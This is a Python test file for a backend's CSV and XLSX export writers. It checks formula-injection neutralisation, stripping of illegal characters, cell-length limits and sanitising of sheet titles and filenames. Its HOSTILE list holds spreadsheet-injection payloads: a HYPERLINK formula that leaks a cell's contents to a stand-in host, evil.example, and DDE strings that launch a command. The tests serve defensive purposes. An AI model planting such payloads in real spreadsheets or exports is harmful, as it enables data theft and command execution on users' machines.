"""CSV and XLSX exports: formulas are neutralised, illegal characters removed, read back with
the csv module and openpyxl as a spreadsheet would read them."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from backend.core.exports import writers

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"Подробнее\")",
    "+1+cmd|' /c calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _xlsx_cells(data: bytes) -> list[list[object]]:
    ws = load_workbook(io.BytesIO(data)).active
    return [list(row) for row in ws.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_escapes_formula_like_text_with_a_quote(text: str):
    rows = _csv_rows(writers.csv_bytes(["Текст"], [[text]]))
    assert rows == [["Текст"], ["'" + text]]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writes_formula_like_text_as_quoted_text(text: str):
    data = writers.xlsx_bytes(["Текст"], [[text]], sheet="Обращения")
    cell = _xlsx_cells(data)[1][0]
    # An XML parser reads a raw CR as LF (XML 1.0, 2.11), so does Excel.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text.replace("\r", "\n"), "s", True)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


def test_plain_text_and_numbers_are_left_alone():
    rows = [["Обычный текст", 42, -3.5, None], ["a;b \"c\"", 0, 1.25, "x"]]
    assert _csv_rows(writers.csv_bytes(["a", "b", "c", "d"], rows))[1:] == [
        ["Обычный текст", "42", "-3.5", ""], ['a;b "c"', "0", "1.25", "x"],
    ]
    cells = _xlsx_cells(writers.xlsx_bytes(["a", "b", "c", "d"], rows, sheet="S"))
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells[1]] == [
        ("Обычный текст", "s", False), (42, "n", False), (-3.5, "n", False), (None, "n", False),
    ]


def test_a_delimiter_inside_text_cannot_start_a_cell():
    """`x;=1+1` must stay one quoted field, not become a second cell starting with `=`."""
    data = writers.csv_bytes(["a"], [["x;=1+1", "y\n=2+2"]])
    assert data.decode("utf-8-sig").splitlines()[1] == '"x;=1+1";"y'
    assert _csv_rows(data)[1] == ["x;=1+1", "y\n=2+2"]


def test_illegal_characters_are_removed_instead_of_failing():
    """BEL, ESC, NUL and a lone surrogate made openpyxl raise IllegalCharacterError (a 500)."""
    row = ["a\x07b\x1bc\x00d", "\ud800ok\ufffe", "tab\tline\nreturn\r"]
    assert _csv_rows(writers.csv_bytes(["h"], [row]))[1] == ["abcd", "ok", "tab\tline\nreturn\r"]
    cells = _xlsx_cells(writers.xlsx_bytes(["h"], [row], sheet="S"))
    assert [c.value for c in cells[1]] == ["abcd", "ok", "tab\tline\nreturn\n"]


def test_a_control_character_before_a_formula_does_not_hide_it():
    assert _csv_rows(writers.csv_bytes(["h"], [["\x07=1+1"]]))[1] == ["'=1+1"]


def test_xlsx_cells_are_cut_at_excels_limit_and_dates_kept():
    moment = datetime(2026, 3, 1, 12, 30, tzinfo=UTC)
    cells = _xlsx_cells(writers.xlsx_bytes(["h"], [["я" * 40_000, date(2026, 3, 1), moment]], sheet="S"))[1]
    assert len(cells[0].value) == writers.XLSX_MAX_CELL and cells[0].value.endswith("…")
    assert cells[1].value == datetime(2026, 3, 1) and cells[2].value == datetime(2026, 3, 1, 12, 30)


def test_sheet_titles_and_file_names_are_made_acceptable():
    assert writers.sheet_title("Обращения: [все] / 2026?") == "Обращения все 2026"
    assert writers.sheet_title("x" * 40) == "x" * 31
    assert writers.sheet_title("''") == "Sheet1"
    wb = load_workbook(io.BytesIO(writers.xlsx_bytes(["h"], [], sheet="a*b:c")))
    assert wb.sheetnames == ["a b c"]
    assert writers.content_disposition("обращения 2026.csv") == (
        "attachment; filename=\"2026.csv\"; filename*=UTF-8''%D0%BE%D0%B1%D1%80%D0%B0%D1%89%D0%B5%D0%BD%D0%B8%D1%8F%202026.csv"
    )
